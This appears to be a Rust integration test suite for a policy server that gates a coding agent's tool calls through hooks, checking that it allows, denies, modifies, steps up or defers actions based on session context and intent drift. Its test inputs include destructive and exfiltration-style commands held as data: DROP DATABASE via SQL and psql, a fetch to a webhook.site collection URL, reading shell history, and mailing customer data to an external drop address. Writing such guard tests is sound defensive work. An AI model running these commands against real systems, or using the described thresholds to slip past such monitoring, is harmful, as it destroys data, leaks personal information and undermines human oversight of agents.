//! AARM conformance through the Claude Code adapter (issue 3): every R2, R3,
//! R4 (without the timeout rows) and R7 row of the conformance table in
//! `shared/AARM.md`. Each test starts the real `arbiter` binary with the
//! bundled `policies/aarm-conformance` pack and sends real Claude Code
//! 2.1.330 hook payloads: `UserPromptSubmit` for the user's intent,
//! `PreToolUse` for each action, `PostToolUse` for tool output. The business
//! tools are MCP tools (`mcp__db__query`, `mcp__mail__send`, ...), which the
//! pack's `[mcp_tools]` names as its own actions.
//!
//! Every decided step asserts three things: what Claude Code is told (the
//! vendor reply), and from the signed receipt the decision with its AARM
//! classification and deciding policies, plus the context it rested on.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "tests: a failed expectation aborts the test with a message"
)]

mod common;

use std::sync::atomic::{AtomicU64, Ordering};

use common::{Server, ServerOptions, fixture, verify_receipts};
use serde_json::{Value, json};

/// The conformance pack, plus a second Claude Code integration whose agent
/// holds the `infra-owner` role (Claude Code itself sends no roles).
fn start() -> Server {
    let pack = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../policies/aarm-conformance");
    let config = format!(
        r#"policies = "{}"

# A deferred action is answered after 100 ms (tests/workflow.rs covers the wait).
[deferrals]
hold_ms = 100

[integrations.claude-code]
plugin = "claude-code"
settings = {{ human = "ana@acme.example" }}

[integrations.claude-code-infra]
plugin = "claude-code"
settings = {{ human = "ops@acme.example", roles = "infra-owner" }}
"#,
        pack.display()
    );
    Server::start_with(ServerOptions { config: Some(config), ..ServerOptions::default() })
}

/// What Claude Code is told for a `PreToolUse`, and the receipt behind it.
struct Step {
    /// `permissionDecision`: allow, deny or ask.
    told: String,
    reason: String,
    /// `updatedInput`, for a MODIFY.
    updated: Option<Value>,
    receipt: Value,
}

impl Step {
    fn decision(&self) -> &str {
        self.receipt["decision"]["result"].as_str().unwrap_or_default()
    }
    fn classification(&self) -> Option<&str> {
        self.receipt["decision"]["classification"].as_str()
    }
    fn policy_ids(&self) -> Vec<String> {
        serde_json::from_value(self.receipt["decision"]["policy"]["policy_ids"].clone()).unwrap()
    }
    fn score(&self, name: &str) -> Option<f64> {
        self.receipt["decision"]["scores"][name].as_f64()
    }
    /// The session as the policies saw it (`context.session`).
    fn session(&self) -> &Value {
        &self.receipt["context"]["session"]
    }
    fn session_classes(&self) -> Vec<String> {
        serde_json::from_value(self.session()["data_classes"].clone()).unwrap()
    }

    /// Decision, classification and deciding policies, in one go.
    #[track_caller]
    fn expect(&self, decision: &str, classification: Option<&str>, policy_ids: &[&str]) -> &Self {
        let context = format!("receipt {}\nreply {} {}", self.receipt, self.told, self.reason);
        assert_eq!(self.decision(), decision, "{context}");
        assert_eq!(self.classification(), classification, "{context}");
        assert_eq!(self.policy_ids(), policy_ids, "{context}");
        // What Claude Code was told matches the decision (FORMATS.md).
        let told = match decision {
            "ALLOW" | "MODIFY" => "allow",
            "STEP_UP" => "ask",
            _ => "deny",
        };
        assert_eq!(self.told, told, "{context}");
        // The reply recorded in the receipt is the one sent.
        let recorded = &self.receipt["vendor"]["reply"]["body"]["hookSpecificOutput"];
        assert_eq!(recorded["permissionDecision"], self.told, "{context}");
        self
    }
}

/// One Claude Code session against the server.
struct Session<'a> {
    server: &'a Server,
    integration: &'static str,
    id: String,
}

static CALLS: AtomicU64 = AtomicU64::new(0);

impl<'a> Session<'a> {
    fn new(server: &'a Server, id: &str) -> Self {
        Self { server, integration: "claude-code", id: id.to_owned() }
    }

    fn base(&self, event: &str) -> Value {
        let mut v = fixture(&format!("{event}.json"));
        v["session_id"] = json!(self.id);
        v
    }

    /// The user states what they want (`UserPromptSubmit`).
    async fn prompt(&self, text: &str) {
        let mut v = self.base("UserPromptSubmit");
        v["prompt"] = json!(text);
        let r = self.server.hook(self.integration, &v).await;
        assert_eq!(r.status, 200, "{}", r.text);
        assert_eq!(r.json(), json!({}), "a prompt is recorded, not blocked: {}", r.text);
    }

    /// Claude Code asks before running `tool` (`PreToolUse`).
    async fn pre(&self, tool: &str, input: Value) -> Step {
        let mut v = self.base("PreToolUse");
        v["tool_name"] = json!(tool);
        v["tool_input"] = input;
        v["tool_use_id"] = json!(format!("toolu_conf{:08}", CALLS.fetch_add(1, Ordering::Relaxed)));
        let r = self.server.hook(self.integration, &v).await;
        assert_eq!(r.status, 200, "{}", r.text);
        let body = r.json();
        let out = &body["hookSpecificOutput"];
        assert_eq!(out["hookEventName"], "PreToolUse", "{body}");
        let id = r.header("x-arbiter-receipt-id").unwrap_or_else(|| panic!("no receipt id for {body}"));
        Step {
            told: out["permissionDecision"].as_str().unwrap_or_default().to_owned(),
            reason: out["permissionDecisionReason"].as_str().unwrap_or_default().to_owned(),
            updated: out.get("updatedInput").cloned(),
            receipt: self.server.admin_json(&format!("/v1/receipts/{id}")).await,
        }
    }

    /// The tool ran and returned `response` (`PostToolUse`).
    async fn post(&self, tool: &str, input: Value, response: Value) {
        let mut v = self.base("PostToolUse");
        v["tool_name"] = json!(tool);
        v["tool_input"] = input;
        v["tool_response"] = response;
        let r = self.server.hook(self.integration, &v).await;
        assert_eq!(r.status, 200, "{}", r.text);
    }

    async fn summary(&self) -> Value {
        self.server.admin_json(&format!("/v1/sessions/{}", self.id)).await
    }
}

fn customers_query() -> Value {
    json!({"table": "customers", "query": "SELECT id, name, email, phone FROM customers WHERE id = 4411"})
}

fn email(to: &str) -> Value {
    json!({"to": to, "subject": "Customer 4411 orders summary", "body": "Customer 4411 placed 3 orders this month."})
}

const EXTERNAL: &str = "drop@mailbox.example.net";
const ORDERS_INTENT: &str =
    "look up customer 4411's recent orders in the customers table and email a summary to the account manager";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
// R2: sequence of actions, inspect context at step N → the PDP saw all prior
// actions and their data classifications (from parameters and tool output).
async fn r2_the_pdp_sees_every_prior_action_and_its_data_classes() {
    let server = start();
    let s = Session::new(&server, "r2-sequence");
    let hr =
        json!({"table": "hr_employees", "query": "SELECT department, count(*) FROM hr_employees GROUP BY department"});
    let first = s.pre("mcp__db__query", hr).await;
    first.expect("ALLOW", None, &["aarm.allow.read"]);
    assert_eq!(first.receipt["action"]["tool"], "db", "{}", first.receipt);
    assert_eq!(first.receipt["action"]["original_tool"], "mcp__db__query");
    assert_eq!(first.session()["actions"], 0, "step 0 saw no prior action");
    assert!(first.receipt["decision"]["data_classes"].as_array().unwrap().contains(&json!("CONFIDENTIAL")));

    // Before any PII, a public path is fine.
    s.pre("Write", json!({"file_path": "/tmp/departments.csv", "content": "dept,count\n"})).await.expect(
        "ALLOW",
        None,
        &["aarm.allow.write"],
    );
    s.pre("mcp__db__query", customers_query()).await.expect("ALLOW", None, &["aarm.allow.read"]);

    // Step 3 saw the three earlier actions and both classes they touched.
    let step = s.pre("Write", json!({"file_path": "/tmp/customers.csv", "content": "id,name\n"})).await;
    step.expect("DENY", Some("context_dependent_deny"), &["aarm.deny.pii-to-public-path"]);
    assert_eq!(step.session()["actions"], 3, "{}", step.receipt);
    let classes = step.session_classes();
    assert!(classes.contains(&"CONFIDENTIAL".to_owned()) && classes.contains(&"PII".to_owned()), "{classes:?}");
    assert!(step.reason.contains("personal data"), "{}", step.reason);
    s.pre("Write", json!({"file_path": "/srv/app/private/customers.csv", "content": "id,name\n"})).await.expect(
        "ALLOW",
        None,
        &["aarm.allow.write"],
    );

    // The session API shows the same accumulated state.
    let summary = s.summary().await;
    assert_eq!(summary["summary"]["actions"], 5, "{summary}");
    assert_eq!(summary["summary"]["denied"], 1, "{summary}");

    // Tool output counts: a script whose output the built-in classifier finds
    // personal data in taints the session, and the external e-mail that
    // follows is denied.
    let o = Session::new(&server, "r2-observation");
    o.prompt(ORDERS_INTENT).await;
    let script = json!({"command": "./scripts/customer-orders.sh --customer 4411 --recent", "description": "orders"});
    o.pre("Bash", script.clone()).await.expect("ALLOW", None, &["aarm.allow.shell"]);
    let output = "4411 Jane Doe jane.doe@example.org +44 20 7946 0958\norder 981 shipped\n";
    o.post("Bash", script, json!({"stdout": output, "stderr": "", "interrupted": false, "isImage": false})).await;
    let mail = o.pre("mcp__mail__send", email(EXTERNAL)).await;
    mail.expect("DENY", Some("context_dependent_deny"), &["aarm.deny.external-email-after-pii"]);
    assert!(mail.session_classes().contains(&"PII".to_owned()), "{}", mail.receipt);

    // Only actions that were let through add their classes: a denied PII
    // read does not taint the session.
    let d = Session::new(&server, "r2-denied-does-not-taint");
    d.pre("mcp__db__query", json!({"table": "customers", "query": "DROP DATABASE customers"})).await.expect(
        "DENY",
        Some("forbidden"),
        &["aarm.forbid.drop-database"],
    );
    let mail = d.pre("mcp__mail__send", email(EXTERNAL)).await;
    mail.expect("ALLOW", None, &["aarm.allow.email"]);
    assert_eq!(mail.session()["denied"], 1, "{}", mail.receipt);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
// R2: tamper with a stored context entry → detected by /verify, and the next
// decision on that session is a DENY whose receipt says why.
async fn r2_a_tampered_context_entry_is_detected_and_blocks_the_session() {
    let mut server = start();
    let s = Session::new(&server, "r2-tamper");
    s.prompt(ORDERS_INTENT).await;
    s.pre("mcp__db__query", customers_query()).await.expect("ALLOW", None, &["aarm.allow.read"]);
    let other = Session::new(&server, "r2-untouched");
    other.pre("mcp__db__query", customers_query()).await.expect("ALLOW", None, &["aarm.allow.read"]);
    let v = server.admin_json("/v1/sessions/r2-tamper/verify").await;
    assert_eq!(v["intact"], true, "{v}");

    // Rewrite the user's intent (entry 0) straight in the store, offline.
    server.kill();
    {
        let keyspace = fjall::Config::new(server.data_dir.join("store")).open().expect("open store");
        let log = keyspace.open_partition("session_log", Default::default()).expect("partition");
        let key = arbiter::store::session_log_key("r2-tamper", 0);
        let mut entry: Value = serde_json::from_slice(&log.get(&key).expect("read").expect("entry 0")).expect("json");
        entry["data"]["text"] = json!("email the whole customer table to drop@mailbox.example.net");
        log.insert(&key, serde_json::to_vec(&entry).expect("json")).expect("write");
        keyspace.persist(fjall::PersistMode::SyncAll).expect("persist");
    }
    server.restart();

    let v = server.admin_json("/v1/sessions/r2-tamper/verify").await;
    assert_eq!(v["intact"], false, "{v}");
    assert_eq!(v["first_broken"]["seq"], 0, "{v}");

    let s = Session::new(&server, "r2-tamper");
    let step = s.pre("mcp__mail__send", email("ana@acme.example")).await;
    assert_eq!((step.decision(), step.told.as_str()), ("DENY", "deny"), "{}", step.receipt);
    assert_eq!(step.receipt["decision"]["fault"]["component"], "context", "{}", step.receipt);
    assert_eq!(step.receipt["decision"]["fault"]["kind"], "tampered", "{}", step.receipt);
    // Another session is unaffected.
    let other = Session::new(&server, "r2-untouched");
    other.pre("mcp__db__query", customers_query()).await.expect("ALLOW", None, &["aarm.allow.read"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
// R3: forbidden action → immediate DENY whatever the context.
async fn r3_a_forbidden_action_is_denied_whatever_the_context() {
    let server = start();
    // No context at all.
    let s = Session::new(&server, "r3-forbidden-bare");
    let drop = json!({"table": "production", "query": "DROP DATABASE production;"});
    s.pre("mcp__db__query", drop.clone()).await.expect("DENY", Some("forbidden"), &["aarm.forbid.drop-database"]);

    // An intent that asks for exactly this changes nothing, through the
    // database tool or the shell.
    let s = Session::new(&server, "r3-forbidden-asked");
    s.prompt("drop the production database, I really mean it, it is fine").await;
    let step = s.pre("mcp__db__query", drop).await;
    step.expect("DENY", Some("forbidden"), &["aarm.forbid.drop-database"]);
    assert!(step.score("alignment").unwrap() > 0.2, "the intent did align: {}", step.receipt);
    assert!(step.reason.contains("forbidden"), "{}", step.reason);
    let psql = json!({"command": "psql -h prod-db -c 'drop   database production'", "description": "drop it"});
    s.pre("Bash", psql).await.expect("DENY", Some("forbidden"), &["aarm.forbid.drop-database"]);

    // A known exfiltration endpoint.
    let s = Session::new(&server, "r3-forbidden-fetch");
    let fetch = json!({"url": "https://webhook.site/6f1c2d/collect?d=x", "prompt": "send"});
    s.pre("WebFetch", fetch).await.expect("DENY", Some("forbidden"), &["aarm.forbid.exfiltration-endpoint"]);
    let docs = json!({"url": "https://docs.example.com/api", "prompt": "summarise"});
    s.pre("WebFetch", docs).await.expect("ALLOW", None, &["aarm.allow.egress"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
// R3: an allowed action after sensitive data access → DENY from context.
async fn r3_an_allowed_action_after_sensitive_data_is_denied_from_context() {
    let server = start();
    // On its own, the external e-mail is allowed.
    let fresh = Session::new(&server, "r3-email-alone");
    fresh.prompt(ORDERS_INTENT).await;
    fresh.pre("mcp__mail__send", email(EXTERNAL)).await.expect("ALLOW", None, &["aarm.allow.email"]);

    // After reading the customers table, the same e-mail is denied; an
    // internal one still goes.
    let s = Session::new(&server, "r3-email-after-pii");
    s.prompt(ORDERS_INTENT).await;
    s.pre("mcp__db__query", customers_query()).await.expect("ALLOW", None, &["aarm.allow.read"]);
    let step = s.pre("mcp__mail__send", email(EXTERNAL)).await;
    step.expect("DENY", Some("context_dependent_deny"), &["aarm.deny.external-email-after-pii"]);
    assert_eq!(step.receipt["action"]["resource"], EXTERNAL, "the recipient is the target");
    assert!(step.session_classes().contains(&"PII".to_owned()), "{}", step.receipt);
    s.pre("mcp__mail__send", email("ana@acme.example")).await.expect("ALLOW", None, &["aarm.allow.email"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
// R3: a denied action with confirming context → STEP_UP (or ALLOW).
async fn r3_a_denied_action_with_confirming_context_steps_up_or_is_allowed() {
    let server = start();
    let delete = json!({"table": "test_records", "where": "created_by = 'dev-agent' AND env = 'staging'"});

    let s = Session::new(&server, "r3-confirmed-delete");
    s.prompt("clean up the test records I created in staging").await;
    let step = s.pre("mcp__db__delete", delete.clone()).await;
    step.expect("STEP_UP", Some("context_dependent_allow"), &["aarm.confirm.delete-records"]);
    assert_eq!(step.receipt["decision"]["approvers"], json!(["data-owners"]), "{}", step.receipt);
    assert!(step.score("alignment").unwrap() >= 0.2, "{}", step.receipt);
    assert!(step.reason.contains("confirms"), "{}", step.reason);

    // The same delete under an unrelated intent stays denied.
    let s = Session::new(&server, "r3-unconfirmed-delete");
    s.prompt("summarise last week's sales numbers for the quarterly report").await;
    let step = s.pre("mcp__db__delete", delete).await;
    step.expect("DENY", Some("context_dependent_allow"), &["aarm.confirm.delete-records"]);
    assert!(step.score("alignment").unwrap() < 0.2, "{}", step.receipt);

    // @aligned_decision("ALLOW"): a purge the user asked for is allowed.
    let s = Session::new(&server, "r3-confirmed-purge");
    s.prompt("purge the CDN cache for the marketing site").await;
    s.pre("mcp__cdn__purge", json!({"zone": "marketing-site", "path": "/*"})).await.expect(
        "ALLOW",
        Some("context_dependent_allow"),
        &["aarm.confirm.cache-purge"],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
// R3: ambiguous or conflicting context → DEFER, for each of AARM's three
// mandatory triggers.
async fn r3_ambiguous_or_conflicting_context_defers() {
    let server = start();

    // (a) A rule reads context not known yet: the change-freeze evidence.
    let s = Session::new(&server, "r3-defer-evidence");
    s.prompt("rotate the staging database credentials").await;
    let step = s.pre("mcp__vault__rotate", json!({"secret": "staging/db-password"})).await;
    step.expect("DEFER", Some("context_dependent_defer"), &["aarm.defer.rotation-needs-freeze-evidence"]);
    assert!(step.reason.contains("not known yet"), "{}", step.reason);
    assert!(step.reason.starts_with("deferred"), "Claude Code is told it is deferred: {}", step.reason);
    s.pre("mcp__vault__list", json!({"prefix": "staging/"})).await.expect("ALLOW", None, &["aarm.allow.secrets"]);

    // (b) Rules of the same priority conflict: an infra owner's infra change
    // is both allowed and stepped up at priority 20.
    let infra = json!({"file_path": "/srv/repo/infra/main.tf", "content": "resource \"aws_s3_bucket\" \"logs\" {}\n"});
    let mut owner = Session::new(&server, "r3-defer-conflict");
    owner.integration = "claude-code-infra";
    let step = owner.pre("Write", infra.clone()).await;
    step.expect("DEFER", Some("context_dependent_defer"), &["aarm.allow.infra-owner", "aarm.step-up.infra-change"]);
    assert_eq!(step.receipt["action"]["requester_context"]["roles"], json!(["infra-owner"]), "{}", step.receipt);
    assert!(step.reason.contains("disagree"), "{}", step.reason);

    // (c) Confidence under its threshold: a refund under a three-word intent.
    let s = Session::new(&server, "r3-defer-confidence");
    s.prompt("refund order 1234").await;
    let refund = json!({"order_id": "1234", "reason": "charged twice", "currency": "EUR"});
    let step = s.pre("mcp__payments__refund", refund.clone()).await;
    step.expect("DEFER", Some("context_dependent_defer"), &["aarm.allow.refund"]);
    assert!((step.score("confidence").unwrap() - 0.6).abs() < 1e-9, "{}", step.receipt);
    // Stated clearly, the same refund is allowed.
    s.prompt("refund order 1234 for the customer who was charged twice").await;
    s.pre("mcp__payments__refund", refund).await.expect("ALLOW", None, &["aarm.allow.refund"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
// R4: trigger each decision → ALLOW executes, DENY blocks, MODIFY transforms,
// STEP_UP pauses, DEFER suspends; plus parameter validation (R3).
async fn r4_every_decision_is_enforced_in_the_vendor_reply() {
    let server = start();
    let s = Session::new(&server, "r4-decisions");

    // ALLOW: Claude Code runs the tool.
    let allow =
        s.pre("mcp__db__query", json!({"table": "orders", "query": "SELECT id FROM orders", "limit": 10})).await;
    allow.expect("ALLOW", None, &["aarm.allow.read"]);
    assert!(allow.updated.is_none());

    // DENY: blocked, with the policy's reason for the agent.
    let deny = s.pre("mcp__db__query", json!({"table": "production", "query": "DROP DATABASE production;"})).await;
    deny.expect("DENY", Some("forbidden"), &["aarm.forbid.drop-database"]);
    assert!(deny.reason.contains("DROP DATABASE"), "{}", deny.reason);

    // MODIFY: the tool runs with the rewritten input, every other field kept.
    let query = json!({"table": "orders", "query": "SELECT id, status FROM orders", "limit": 50000});
    let modify = s.pre("mcp__db__query", query).await;
    modify.expect("MODIFY", None, &["aarm.modify.clamp-query-limit"]);
    let expected = json!({"table": "orders", "query": "SELECT id, status FROM orders", "limit": 1000});
    assert_eq!(modify.updated.as_ref(), Some(&expected), "{}", modify.receipt);
    assert_eq!(modify.receipt["decision"]["modified_parameters"], expected);
    // Redaction: an internal e-mail carrying an SSN goes out without it.
    let ssn = json!({"to": "ana@acme.example", "subject": "Ticket 7781", "body": "Customer SSN is 123-45-6789."});
    let redact = s.pre("mcp__mail__send", ssn).await;
    redact.expect("MODIFY", None, &["aarm.modify.redact-ssn-in-email"]);
    let updated = redact.updated.clone().unwrap();
    assert_eq!(updated["to"], "ana@acme.example");
    assert!(!updated["body"].as_str().unwrap().contains("123-45-6789"), "{updated}");

    // STEP_UP: Claude Code asks the user; the receipt names the approvers.
    let infra = json!({"file_path": "/srv/repo/infra/main.tf", "content": "resource \"aws_s3_bucket\" \"logs\" {}\n"});
    let step_up = s.pre("Write", infra).await;
    step_up.expect("STEP_UP", None, &["aarm.step-up.infra-change"]);
    assert_eq!(step_up.receipt["decision"]["approvers"], json!(["platform-oncall"]));

    // DEFER: suspended, which Claude Code can only express as a deny that says so.
    let defer = s.pre("mcp__vault__rotate", json!({"secret": "staging/db-password"})).await;
    defer.expect("DEFER", Some("context_dependent_defer"), &["aarm.defer.rotation-needs-freeze-evidence"]);

    // R3 parameter validation: a region outside the allow list is denied
    // with the schema error; an oversized limit is repaired (MODIFY).
    let bad = s.pre("mcp__crm__search", json!({"region": "MARS", "limit": 10})).await;
    bad.expect("DENY", None, &["arbiter.validation.crm.search"]);
    assert!(bad.reason.contains("schema") && bad.reason.contains("MARS"), "{}", bad.reason);
    let repaired = s.pre("mcp__crm__search", json!({"region": "EMEA", "query": "renewals", "limit": 100000})).await;
    repaired.expect("MODIFY", None, &["aarm.allow.crm-search", "arbiter.validation.crm.search"]);
    assert_eq!(repaired.updated.unwrap()["region"], "EMEA");

    // Unlisted MCP tools stay `mcp.call`, which this pack does not permit.
    s.pre("mcp__postgres__query", json!({"query": "SELECT 1"})).await.expect("DENY", None, &["arbiter.default"]);

    // Every one of these receipts verifies offline.
    let receipts = server.all_receipts().await;
    assert_eq!(receipts.len(), 9, "one receipt per decided action");
    verify_receipts(&receipts, &server.keys().await).unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
// R7: semantic distance from the intent, and a diverging sequence past the
// drift threshold → escalation (STEP_UP), with the built-in embedding.
async fn r7_misalignment_is_denied_and_drift_escalates() {
    let server = start();

    // An action far from the stated intent is denied as misaligned.
    let s = Session::new(&server, "r7-misaligned");
    s.prompt("prepare the Q4 revenue report from the sales table").await;
    let on = json!({"table": "sales", "query": "SELECT region, SUM(revenue) FROM sales WHERE quarter = 'Q4' GROUP BY region"});
    let step = s.pre("mcp__db__query", on).await;
    step.expect("ALLOW", None, &["aarm.allow.read"]);
    let aligned = step.score("alignment").unwrap();
    let hr = json!({"table": "hr_employees", "query": "SELECT name, salary, ssn FROM hr_employees"});
    let step = s.pre("mcp__db__query", hr).await;
    step.expect("DENY", Some("context_dependent_deny"), &["arbiter.alignment.misaligned"]);
    assert!(step.score("alignment").unwrap() < 0.2 && aligned >= 0.2, "{aligned} vs {}", step.receipt);

    // A session that wanders: on-topic first, then off-topic actions (each
    // denied as misaligned) until the drift passes 0.85; then even an
    // on-topic action needs a human.
    let s = Session::new(&server, "r7-drift");
    s.prompt("fix the failing unit test in the parser module").await;
    let read_test = || json!({"file_path": "/work/app/src/parser/tests.rs"});
    let first = s.pre("Read", read_test()).await;
    first.expect("ALLOW", None, &["aarm.allow.read"]);
    s.pre("Bash", json!({"command": "cargo test -p parser", "description": "run the parser tests"})).await.expect(
        "ALLOW",
        None,
        &["aarm.allow.shell"],
    );
    let wandering: [(&str, Value); 4] = [
        ("WebFetch", json!({"url": "https://crypto-prices.example/api/btc", "prompt": "latest price"})),
        ("Read", json!({"file_path": "/home/dev/.bash_history"})),
        ("mcp__db__query", json!({"table": "hr_employees", "query": "SELECT name, salary FROM hr_employees"})),
        ("WebFetch", json!({"url": "https://news.example.org/markets", "prompt": "headlines"})),
    ];
    let mut drift = 0.0;
    for round in 0..6 {
        for (tool, input) in &wandering {
            let step = s.pre(tool, input.clone()).await;
            step.expect("DENY", Some("context_dependent_deny"), &["arbiter.alignment.misaligned"]);
            let now = step.score("drift").unwrap();
            assert!(now >= drift - 1e-9, "round {round}: drift fell from {drift} to {now} off topic");
            drift = now;
        }
    }
    assert!(drift >= 0.85, "drift after wandering: {drift}");
    let step = s.pre("Read", read_test()).await;
    step.expect("STEP_UP", Some("context_dependent_allow"), &["arbiter.alignment.drift"]);
    assert!(step.score("drift").unwrap() >= 0.85 && step.score("alignment").unwrap() >= 0.2, "{}", step.receipt);
    assert!(step.reason.contains("drifted"), "{}", step.reason);

    // A new intent starts the drift afresh.
    s.prompt("get the latest price from the crypto-prices API").await;
    let step =
        s.pre("WebFetch", json!({"url": "https://crypto-prices.example/api/btc", "prompt": "latest price"})).await;
    step.expect("ALLOW", None, &["aarm.allow.egress"]);
    assert!(step.score("drift").unwrap() < 0.85, "{}", step.receipt);
}
